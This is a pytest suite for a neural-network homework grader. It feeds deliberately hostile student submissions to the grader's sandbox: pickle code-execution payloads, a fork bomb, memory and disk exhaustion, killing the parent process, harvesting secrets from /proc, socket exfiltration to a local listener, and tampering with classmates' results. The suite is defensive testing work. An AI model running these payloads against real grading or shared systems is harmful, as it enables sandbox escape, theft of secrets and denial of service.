"""Issue 8: a corpus of hostile submissions, each asserted contained.

Every attack is a book-style submission whose ``Relu.forward`` (or module body) attacks, beside a correct
Sigmoid.  Each is graded by ``spec-nn grade`` in a subprocess (an attack on the grading process must not take
pytest with it), at each isolation level this machine offers: ``bubblewrap`` where bwrap works, ``uid`` when
the tests run as root; otherwise the level is skipped with the reason printed.  Contained means: no
undeserved points (relu never passes by cheating), the classmate (sigmoid, or another student) still graded
and unchanged, nothing outside the sandbox read or written (decoys in a temporary folder, a listener on
127.0.0.1 that the test starts), a readable report, and no process of the attack left afterwards.
Bounded: 2-5 s per call, --memory 1024, a process-count limit, network only to the test's own listener.
"""
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid

import pytest

from spec_nn import isolation

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
EXAMPLES = os.path.join(ROOT, "examples")


def _levels():
    out = []
    why = isolation._probe_bwrap()
    out.append(pytest.param("bubblewrap", marks=pytest.mark.skipif(bool(why), reason=why or "")))
    out.append(pytest.param("uid", marks=pytest.mark.skipif(os.geteuid() != 0,
                                                            reason="the uid level needs the tests to run as root")))
    return out


LEVELS = _levels()
# the attacks every level contains (the protocol, the grader's bookkeeping, sanitising): run at "session" too
ALL_LEVELS = LEVELS + ["session"]

SIGMOID = """
class Sigmoid:
    def forward(self, x):
        self.out = 1 / (1 + np.exp(-x))
        return self.out
    def backward(self, dout):
        return dout * self.out * (1 - self.out)
"""


def submission(tmp_path, relu_forward: str, top: str = "", name: str = "sub") -> str:
    d = tmp_path / name
    (d / "common").mkdir(parents=True)
    (d / "common" / "__init__.py").write_text("")
    body = textwrap.indent(textwrap.dedent(relu_forward).strip("\n"), " " * 8)
    (d / "common" / "layers.py").write_text(
        "import numpy as np\nimport os, sys, signal, time\n" + textwrap.dedent(top) + SIGMOID +
        "\nclass Relu:\n    def forward(self, x):\n" + body +
        "\n    def backward(self, dout):\n        return dout * (self.x > 0)\n")
    return str(d)


def grade(sub, level, *extra, env=None, timeout=120):
    out = os.path.join(os.path.dirname(sub), f"result-{uuid.uuid4().hex[:6]}.json")
    e = dict(os.environ, SPEC_NN_ISOLATION=level, **(env or {}))
    t0 = time.monotonic()
    p = subprocess.run([sys.executable, "-m", "spec_nn", "grade", sub, "--components", "relu,sigmoid",
                        "--max-examples", "3", "--timeout", "5", "--memory", "1024", "--json", out, *extra],
                       capture_output=True, text=True, timeout=timeout, env=e)
    res = json.load(open(out)) if os.path.exists(out) else None
    return p, res, time.monotonic() - t0


def comps(res):
    return {c["name"]: c for c in res["components"]}


def assert_contained(p, res, relu_ok=("error", "fail")):
    assert res is not None, f"no report (rc={p.returncode}): {p.stderr[-2000:]}"
    c = comps(res)
    assert c["relu"]["status"] in relu_ok, c["relu"]
    assert c["sigmoid"]["status"] == "pass", c["sigmoid"]
    assert "Traceback" not in p.stderr, p.stderr[-2000:]


def no_process_with(token: str) -> list:
    left = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if token.encode() in f.read():
                        left.append(int(pid))
            except OSError:
                pass
    return left


# -- the protocol carries data, never code -----------------------------------------------------------------

PICKLE_BOMB = """
import pickle, struct
class Boom:
    def __reduce__(self):
        return (open, ({marker!r}, "w"))
payload = pickle.dumps(("ok", Boom(), {{}}, ""))
os.write(int(sys.argv[2]), struct.pack("<Q", len(payload)) + payload)
time.sleep(30)
"""


@pytest.mark.parametrize("level", ALL_LEVELS)
def test_a_pickle_on_the_reply_pipe_runs_nothing_in_the_grader(tmp_path, level):
    marker = str(tmp_path / "PWNED")
    p, res, _ = grade(submission(tmp_path, PICKLE_BOMB.format(marker=marker)), level)
    assert_contained(p, res)
    assert not os.path.exists(marker)
    assert "rejected" in comps(res)["relu"]["properties"][0]["message"]


@pytest.mark.parametrize("level", ALL_LEVELS)
def test_an_ndarray_subclass_with_reduce_ex_is_only_data(tmp_path, level):
    marker = str(tmp_path / "PWNED")
    attack = f"""
    class Evil(np.ndarray):
        def __reduce_ex__(self, proto):
            return (open, ({marker!r}, "w"))
    self.x = x
    return (x * 2).view(Evil)
    """
    p, res, _ = grade(submission(tmp_path, attack), level)
    assert_contained(p, res)
    assert not os.path.exists(marker)


@pytest.mark.parametrize("level", ALL_LEVELS)
@pytest.mark.parametrize("attack", [
    "os.write(int(sys.argv[2]), b'\\x00garbage' * 1000); time.sleep(30)",
    "os.write(int(sys.argv[2]), b'SNW1' + (2**40).to_bytes(8, 'little')); time.sleep(30)",
    "os.close(int(sys.argv[2])); self.x = x; return x * (x > 0)",
    "self.x = x; return np.zeros(9 * 10**6)",  # 72 MB: over the reply cap, refused before it is read
])
def test_garbage_closed_or_oversized_replies_are_that_components_error(tmp_path, level, attack):
    p, res, _ = grade(submission(tmp_path, attack), level)
    assert_contained(p, res)


# -- the grader and its install ------------------------------------------------------------------------------

@pytest.mark.parametrize("level", LEVELS)
def test_the_graders_install_is_neither_writable_nor_importable(tmp_path, level):
    target = os.path.join(ROOT, "spec_nn", "runner.py")
    attack = f"""
    for path in ({target!r}, {sys.executable!r}):
        try:
            open(path, "r+b").close()
            print("WRITABLE", path)
        except OSError:
            pass
    for mod in ("spec_nn", "spec_nn.reference.activations", "conformance"):
        try:
            __import__(mod)
            print("IMPORTED", mod)
        except Exception:
            pass
    try:  # torch imports as a stand-in (an unused import costs nothing); using it fails
        import torch
        torch.tensor([1.0])
        print("IMPORTED", "torch")
    except ImportError:
        pass
    try:
        import torch.nn as nn
        class Net(nn.Module):
            pass
        print("IMPORTED", "torch.nn")
    except ImportError:
        pass
    self.x = x
    return x * 2
    """
    before = os.stat(target).st_mtime
    p, res, _ = grade(submission(tmp_path, attack), level)
    assert_contained(p, res)
    assert "WRITABLE" not in res["output"] and "IMPORTED" not in res["output"], res["output"]
    assert os.stat(target).st_mtime == before


@pytest.mark.parametrize("level", LEVELS)
def test_answer_key_through_the_manifest_or_an_import_earns_nothing(tmp_path, level):
    d = tmp_path / "m"
    d.mkdir()
    (d / "spec_nn.toml").write_text('[components]\nrelu = "spec_nn.reference.activations:relu"\n'
                                    'sigmoid = "torch:sigmoid"\n')
    out = tmp_path / "m.json"
    e = dict(os.environ, SPEC_NN_ISOLATION=level)
    subprocess.run([sys.executable, "-m", "spec_nn", "grade", str(d), "--json", str(out), "--max-examples", "3"],
                   capture_output=True, text=True, timeout=120, env=e)
    c = comps(json.loads(out.read_text()))
    assert c["relu"]["status"] == "error" and "answer key" in c["relu"]["message"], c["relu"]
    assert c["sigmoid"]["status"] == "error" and "torch" in c["sigmoid"]["message"], c["sigmoid"]
    # book files importing the reference get an error, never the points
    sub = submission(tmp_path, "self.x = x; return R(x)", top="from spec_nn.reference.activations import relu as R\n",
                     name="b")
    p, res, _ = grade(sub, level)
    assert res is not None and comps(res)["relu"]["status"] == "error", res and comps(res)["relu"]
    assert comps(res)["sigmoid"]["status"] == "error"  # the same file: it does not load


# -- the grading process cannot be killed, stopped or outlived ---------------------------------------------

@pytest.mark.parametrize("level", LEVELS)
@pytest.mark.parametrize("sig", ["SIGKILL", "SIGSTOP", "SIGTERM"])
def test_the_parent_cannot_be_signalled(tmp_path, level, sig):
    attack = f"""
    for pid in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.{sig})
            except OSError:
                pass
    self.x = x
    return x * 2
    """
    p, res, seconds = grade(submission(tmp_path, attack), level, timeout=100)
    assert_contained(p, res)
    assert seconds < 90


@pytest.mark.parametrize("level", LEVELS)
def test_a_background_process_does_not_outlive_the_grading(tmp_path, level):
    token = "spec-nn-test-" + uuid.uuid4().hex
    out = str(tmp_path / "fixed-result.json")
    attack = f"""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c",
                "import time, sys\\ntime.sleep(3)\\nopen({out!r}, 'w').write('HACKED')", {token!r}])
        os._exit(0)
    self.x = x
    return x * 2
    """
    sub = submission(tmp_path, attack)
    e = dict(os.environ, SPEC_NN_ISOLATION=level)
    subprocess.run([sys.executable, "-m", "spec_nn", "grade", sub, "--components", "relu,sigmoid",
                    "--max-examples", "2", "--json", out], capture_output=True, text=True, timeout=120, env=e)
    assert no_process_with(token) == []
    time.sleep(4)
    assert "HACKED" not in open(out).read()
    assert comps(json.load(open(out)))["relu"]["status"] in ("fail", "error")


# -- secrets, network, files ----------------------------------------------------------------------------

@pytest.mark.parametrize("level", LEVELS)
def test_no_secrets_network_or_files_outside_the_sandbox(tmp_path, level):
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    srv.settimeout(0.2)
    port = srv.getsockname()[1]
    hits = []

    def accept():
        t_end = time.monotonic() + 60
        while time.monotonic() < t_end and not hits:
            try:
                conn, _ = srv.accept()
                hits.append(conn.recv(100))
                conn.close()
            except (socket.timeout, OSError):
                pass
    th = threading.Thread(target=accept, daemon=True)
    th.start()
    decoy = tmp_path / "decoy"
    decoy.mkdir()
    victim = decoy / "keep.txt"
    victim.write_text("original")
    attack = f"""
    import socket
    found = [k for k in os.environ if "SECRET" in k]
    for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if b"SPEC_NN_TEST_SECRET" in open(f"/proc/{{pid}}/environ", "rb").read():
                found.append(pid)
        except OSError:
            pass
    if found:
        print("LEAK", found)
    try:
        s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
        s.sendall(b"exfiltrated")
        print("LEAK network")
    except OSError:
        pass
    for action in (lambda: open({str(decoy / "new.txt")!r}, "w").write("x"),
                   lambda: os.remove({str(victim)!r}), lambda: open({str(victim)!r}, "w").write("changed")):
        try:
            action()
            print("LEAK file")
        except OSError:
            pass
    self.x = x
    return x * (x > 0)
    """
    p, res, _ = grade(submission(tmp_path, attack), level, env={"SPEC_NN_TEST_SECRET": "hunter2"},
                      )
    th.join(1)
    srv.close()
    assert res is not None, p.stderr
    assert "LEAK" not in res["output"], res["output"]
    assert hits == []
    assert victim.read_text() == "original" and not (decoy / "new.txt").exists()
    assert comps(res)["relu"]["status"] == "pass"  # contained, so the honest answer is what it returned


# -- limits for the whole tree ---------------------------------------------------------------------------

@pytest.mark.parametrize("level", LEVELS)
@pytest.mark.parametrize("attack", [
    # four children of 600 MB each under --memory 1024: a limit per process would let 2.4 GB through
    """
    kids = []
    for _ in range(4):
        pid = os.fork()
        if pid == 0:
            a = np.ones(75 * 10**6); time.sleep(20); os._exit(0)
        kids.append(pid)
    time.sleep(20)
    """,
    # a fork bomb
    """
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    """,
    # a 300 MB file in its scratch space
    """
    with open("big.bin", "wb") as f:
        for _ in range(300):
            f.write(b"x" * 2**20)
    self.x = x
    return x * (x > 0)
    """,
])
def test_memory_processes_and_disk_are_limited_for_the_tree(tmp_path, level, attack):
    token = "spec-nn-limit-" + uuid.uuid4().hex
    sub = submission(tmp_path, f"_token = {token!r}\n" + textwrap.dedent(attack))
    p, res, seconds = grade(sub, level, "--submission-timeout", "60", timeout=150)
    assert_contained(p, res)
    assert seconds < 140
    time.sleep(0.5)
    assert no_process_with(token) == [] and no_process_with(os.path.join(sub, "common")) == []


# -- the worker does not decide what is missing ---------------------------------------------------------

@pytest.mark.parametrize("level", ALL_LEVELS)
def test_faking_missing_after_load_is_an_error(tmp_path, level):
    attack = """
    import _spec_nn_adapters.adapters as A
    raise A.Missing("nothing to see here")
    """
    p, res, _ = grade(submission(tmp_path, attack), level)
    assert_contained(p, res, relu_ok=("error",))
    relu = comps(res)["relu"]
    assert relu["status"] == "error" and any("after it was loaded" in q["message"] for q in relu["properties"])
    assert res["score"]["earned"] < res["score"]["possible"]


# -- output is sanitised ------------------------------------------------------------------------------------

@pytest.mark.parametrize("level", ALL_LEVELS)
def test_terminal_escapes_cannot_forge_lines(tmp_path, level):
    attack = r"""
    raise ValueError("\x1b[2K\r\x1b[1APASS     relu\nPASS     relu\x1b]0;title\x07")
    """
    p, res, _ = grade(submission(tmp_path, attack), level)
    assert_contained(p, res)
    text = p.stdout + p.stderr
    assert "\x1b" not in text and "\r" not in text and "\x07" not in text
    assert not any(line.startswith("PASS     relu") for line in text.splitlines())
    assert "\\x1b" in json.dumps(res)  # shown escaped, not dropped


# -- grade-class: classmates, names, corrupt results -----------------------------------------------------------

@pytest.mark.parametrize("level", LEVELS)
def test_a_classmate_cannot_touch_others(tmp_path, level):
    klass = tmp_path / "class"
    klass.mkdir()
    out = tmp_path / "results"
    shutil.copytree(os.path.join(EXAMPLES, "book_correct"), klass / "victim")
    victim_layers = str(klass / "victim" / "common" / "layers.py")
    victim_result = str(out / "students" / "victim.json")
    attack = f"""
    for path in ({victim_result!r}, {str(out / 'summary.csv')!r}):
        try:
            open(path, "w").write("{{}}")
        except OSError:
            pass
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if b"_worker.py" in open(f"/proc/{{pid}}/cmdline", "rb").read() and pid != os.getpid():
                os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        ns = {{}}
        exec(open({victim_layers!r}).read(), ns)
        print("READ classmate")
        return ns["Relu"]().forward(x)
    except Exception:
        pass
    self.x = x
    return x * 2
    """
    submission(klass, attack, name="attacker")
    e = dict(os.environ, SPEC_NN_ISOLATION=level)
    p = subprocess.run([sys.executable, "-m", "spec_nn", "grade-class", str(klass), "--out", str(out),
                        "--components", "relu,sigmoid", "--max-examples", "3", "--workers", "2", "--no-progress"],
                       capture_output=True, text=True, timeout=240, env=e)
    assert p.returncode == 0, p.stderr[-2000:]
    v = json.load(open(victim_result))
    assert all(c["status"] == "pass" for c in v["components"]), v
    a = json.load(open(out / "students" / "attacker.json"))
    assert comps(a)["relu"]["status"] == "fail" and "READ classmate" not in a["output"]


def test_grade_class_names_never_collide_and_skips_are_reported(tmp_path):
    klass = tmp_path / "class"
    klass.mkdir()
    src = os.path.join(EXAMPLES, "book_correct")
    for name in ("summary", "alice", "_under", ".hidden", "a b%2F"):
        shutil.copytree(src, klass / name)
    shutil.copy(os.path.join(EXAMPLES, "manifest_example", "spec_nn.toml"), klass / "alice.toml")
    shutil.copytree(os.path.join(EXAMPLES, "manifest_example", "mylib"), klass / "mylib_not_a_submission")
    out = tmp_path / "res"
    p = subprocess.run([sys.executable, "-m", "spec_nn", "grade-class", str(klass), "--out", str(out),
                        "--components", "relu", "--max-examples", "2", "--workers", "2", "--no-progress"],
                       capture_output=True, text=True, timeout=300)
    assert p.returncode == 0, p.stderr[-2000:]
    assert ".hidden (hidden)" in p.stderr
    files = sorted(os.listdir(out / "students"))
    assert {"summary.json", "alice.json", "alice.toml.json", "_under.json", "a%20b%252F.json"} <= set(files), files
    assert json.load(open(out / "students" / "alice.toml.json"))["style"] == "manifest"
    assert json.load(open(out / "students" / "alice.json"))["style"] == "book"
    rows = open(out / "summary.csv").read().splitlines()
    results = [f for f in files if f.endswith(".json") and not f.endswith(".results.json")]
    assert rows[0].startswith("submission") and len(rows) == 1 + len(results)
    # a corrupt result left in the folder is regraded, with a word, never a crash
    (out / "students" / "alice.json").write_text('{"not": "a result"')
    p = subprocess.run([sys.executable, "-m", "spec_nn", "grade-class", str(klass), "--out", str(out),
                        "--components", "relu", "--max-examples", "2", "--workers", "1", "--no-progress"],
                       capture_output=True, text=True, timeout=300)
    assert p.returncode == 0 and "regrading alice" in p.stderr, p.stderr[-2000:]
    assert json.load(open(out / "students" / "alice.json"))["style"] == "book"


# -- determinism -----------------------------------------------------------------------------------------------

def test_unseeded_cs231n_dropout_is_nondeterministic(tmp_path):
    d = tmp_path / "cs"
    shutil.copytree(os.path.join(EXAMPLES, "cs231n_correct"), d)
    layers = d / "cs231n" / "layers.py"
    src = layers.read_text()
    layers.write_text(src + textwrap.dedent("""

        def dropout_forward(x, dropout_param):
            p, mode = dropout_param["p"], dropout_param["mode"]
            if mode == "train":
                mask = (np.random.rand(*x.shape) < p) / p
                return x * mask, (dropout_param, mask)
            return x, (dropout_param, None)
        """))
    from spec_nn.grading import grade_submission
    res = grade_submission(str(d), components=["dropout"], max_examples=5)
    dropout = res["components"][0]
    # the worker reseeds NumPy's global RNG differently before each CS231n call, so ignoring the seed shows
    assert dropout["status"] == "fail", dropout
    assert any("on a second call" in p["message"] for p in dropout["properties"]), dropout["properties"]


def test_a_component_answering_the_same_case_differently_is_a_finding(tmp_path):
    """An RNG the grader cannot reseed (a fresh default_rng per call) makes two identical calls differ."""
    d = tmp_path / "m"
    (d / "lib").mkdir(parents=True)
    (d / "lib" / "ops.py").write_text("import numpy as np\n\ndef relu(x):\n"
                                      "    return np.maximum(x, 0) + np.random.default_rng().uniform(0, 1e-3)\n")
    (d / "spec_nn.toml").write_text('path = ["lib"]\n[components]\nrelu = "ops:relu"\n')
    from spec_nn.grading import grade_submission
    res = grade_submission(str(d), max_examples=3)
    relu = comps(res)["relu"]
    assert relu["status"] in ("error", "fail")
    assert any("nondeterministic" in p["message"] for p in relu["properties"]), relu["properties"]


def test_a_grader_killed_outright_leaves_nothing_once_the_next_one_starts(tmp_path):
    """SIGKILL gives the grader no chance to clean up: its worker dies with it, and the next grader removes
    its scratch copy, runtime copy, stderr file and cgroup (the dead pid is in every name)."""
    p = subprocess.Popen([sys.executable, "-m", "spec_nn", "grade", os.path.join(EXAMPLES, "book_correct"), "-q"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(3)
    p.kill()
    p.wait()
    time.sleep(0.5)
    assert no_process_with(f"spec_nn-worker-{p.pid}-") == []
    subprocess.run([sys.executable, "-m", "spec_nn", "grade", os.path.join(EXAMPLES, "book_correct"),
                    "--components", "relu", "--max-examples", "2", "-q"], capture_output=True, timeout=120)
    import glob
    import tempfile
    left = glob.glob(os.path.join(tempfile.gettempdir(), f"spec_nn-*-{p.pid}-*"))
    left += glob.glob(f"/sys/fs/cgroup/*/spec_nn-{p.pid}-*") + glob.glob(f"/sys/fs/cgroup/*/*/*/spec_nn-{p.pid}-*")
    assert left == []
